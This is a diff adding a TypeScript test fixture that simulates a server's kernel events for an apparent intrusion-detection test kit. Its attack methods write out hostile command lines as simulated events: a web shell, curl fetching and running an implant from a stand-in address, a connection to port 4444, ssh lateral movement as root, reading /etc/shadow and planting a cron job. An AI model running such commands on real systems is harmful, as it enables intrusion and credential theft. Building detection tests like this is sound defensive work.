@@ -1,0 +1,138 @@
+import { credentialsOf, O, TestHost, type TestHostOptions, type TestProcess } from '@ringfence/testkit';
+
+/** No kernel gives such numbers: a command against one of these processes can't reach a real one. */
+const FIRST_PID = 5_000_000;
+const CONTAINER = 77n;
+const WEB_USER = 33;
+/** µs between two events of one step */
+const STEP = 20;
+
+export interface MachineOptions extends Pick<TestHostOptions, 'hostId' | 'bootId' | 'run' | 'key'> {
+  /** from 1: the machine's name and address come of it */
+  readonly number: number;
+  /** µs since the epoch at which it booted */
+  readonly bootedAt: number;
+}
+
+/** A machine that exists only in its events: a web server in a container, a shell for administrators, jobs of cron. */
+export class Machine {
+  readonly host: TestHost;
+  readonly number: number;
+  readonly address: string;
+  readonly container: string;
+  readonly #sshd: TestProcess;
+  readonly #cron: TestProcess;
+  readonly #web: TestProcess;
+  #pid = FIRST_PID;
+  #port = 20_000;
+  #requests = 0;
+
+  constructor({ number, bootedAt, ...identity }: MachineOptions) {
+    this.number = number;
+    this.address = `10.77.${number >> 8}.${number & 0xff}`;
+    // A name that policies/demo.yaml knows: what it orders reaches this host by its control stream.
+    this.container = `ringfence-demo-web-${number}`;
+    this.host = new TestHost({ ...identity, step: STEP, wallOffset: bootedAt, ktime: Date.now() * 1000 - bootedAt });
+    const { host } = this;
+    host.user(0, 'root');
+    host.user(WEB_USER, 'www-data');
+    const web = { id: this.container, name: `web-${number}`, image: 'shop/web:1.4', path: `/${this.container}` };
+    host.container({ cgroup: CONTAINER, ...web });
+    host.snapshot(host.init, '/usr/lib/systemd/systemd');
+    this.#sshd = host.exec(this.fork(host.init), '/usr/sbin/sshd');
+    this.#cron = host.exec(this.fork(host.init), '/usr/sbin/cron');
+    const server = host.fork(host.init, { pid: this.#pid++, cgroup: CONTAINER });
+    server.credentials = credentialsOf(WEB_USER);
+    this.#web = host.exec(server, '/usr/sbin/nginx', { credentials: server.credentials });
+  }
+
+  fork(parent: TestProcess): TestProcess {
+    return this.host.fork(parent, { pid: this.#pid++ });
+  }
+
+  spawn(parent: TestProcess, path: string, argv?: readonly string[]): TestProcess {
+    const values = { credentials: parent.credentials, ...(argv === undefined ? {} : { argv }) };
+    return this.host.exec(this.fork(parent), path, values);
+  }
+
+  /** The clock moves on, to µs since the epoch. */
+  passTo(now: number): void {
+    this.host.ktime = Math.max(this.host.ktime, now - this.host.wallOffset);
+  }
+
+  /** A piece of everyday work; nothing that a rule minds. */
+  work(): void {
+    if (this.#requests++ % 25 === 0) this.#job();
+    else this.#serve();
+  }
+
+  #serve(): void {
+    const { host } = this;
+    const client = { address: `10.78.0.${1 + (this.#requests % 250)}`, port: 30_000 + (this.#requests % 20_000) };
+    host.accept(this.#web, client, { address: this.address, port: 80 });
+    host.open(this.#web, `/var/www/html/page-${this.#requests % 97}.html`);
+  }
+
+  #job(): void {
+    const { host } = this;
+    const shell = this.spawn(this.#cron, '/bin/sh', ['sh', '-c', 'test -x /usr/sbin/anacron']);
+    host.open(shell, '/etc/ld.so.cache');
+    host.open(shell, '/etc/localtime');
+    host.exit(shell);
+  }
+
+  /** A port that no connection of this machine had for long. */
+  nextPort(): number {
+    this.#port = this.#port < 60_000 ? this.#port + 1 : 20_000;
+    return this.#port;
+  }
+
+  /** The web server is made to run a shell. */
+  webShell(): TestProcess {
+    return this.spawn(this.#web, '/usr/bin/dash', ['sh', '-c', 'test -f x.png; id; uname -a']);
+  }
+
+  /** The shell fetches a program and runs it: what it becomes. */
+  implant(shell: TestProcess): TestProcess {
+    const { host } = this;
+    const curl = this.spawn(shell, '/usr/bin/curl', ['curl', '-s', '-o', '/tmp/.x', 'http://203.0.113.9/implant']);
+    host.connect(curl, '203.0.113.9', 80, { localAddress: this.address, localPort: this.nextPort() });
+    host.open(curl, '/tmp/.x', O.WRONLY | O.CREAT);
+    host.exit(curl);
+    const implant = this.spawn(shell, '/tmp/.x', ['/tmp/.x']);
+    host.connect(implant, '203.0.113.9', 4444, { localAddress: this.address, localPort: this.nextPort() });
+    return implant;
+  }
+
+  /** `shell` logs in to another machine: the shell that it gets there. */
+  login(shell: TestProcess, to: Machine): TestProcess {
+    const port = this.nextPort();
+    const client = this.spawn(shell, '/usr/bin/ssh', ['ssh', `root@${to.address}`]);
+    this.host.connect(client, to.address, 22, { localAddress: this.address, localPort: port });
+    return to.#accept(this.address, port);
+  }
+
+  #accept(address: string, port: number): TestProcess {
+    this.host.accept(this.#sshd, { address, port }, { address: this.address, port: 22 });
+    const session = this.spawn(this.#sshd, '/usr/lib/openssh/sshd-session', ['sshd-session', '-R']);
+    return this.spawn(this.fork(session), '/bin/bash', ['-bash']);
+  }
+
+  readHashes(shell: TestProcess): void {
+    const cat = this.spawn(shell, '/usr/bin/cat', ['cat', '/etc/shadow']);
+    this.host.open(cat, '/etc/shadow');
+    this.host.exit(cat);
+  }
+
+  plantJob(shell: TestProcess): void {
+    this.host.open(shell, '/etc/cron.d/update', O.WRONLY | O.CREAT);
+  }
+
+  becomeRoot(process: TestProcess): void {
+    this.host.credentials(process, { ...credentialsOf(0), uid: WEB_USER });
+    this.host.exec(process, '/opt/shop/backup-helper', {
+      argv: ['/opt/shop/backup-helper', '-p'],
+      credentials: process.credentials,
+    });
+  }
+}
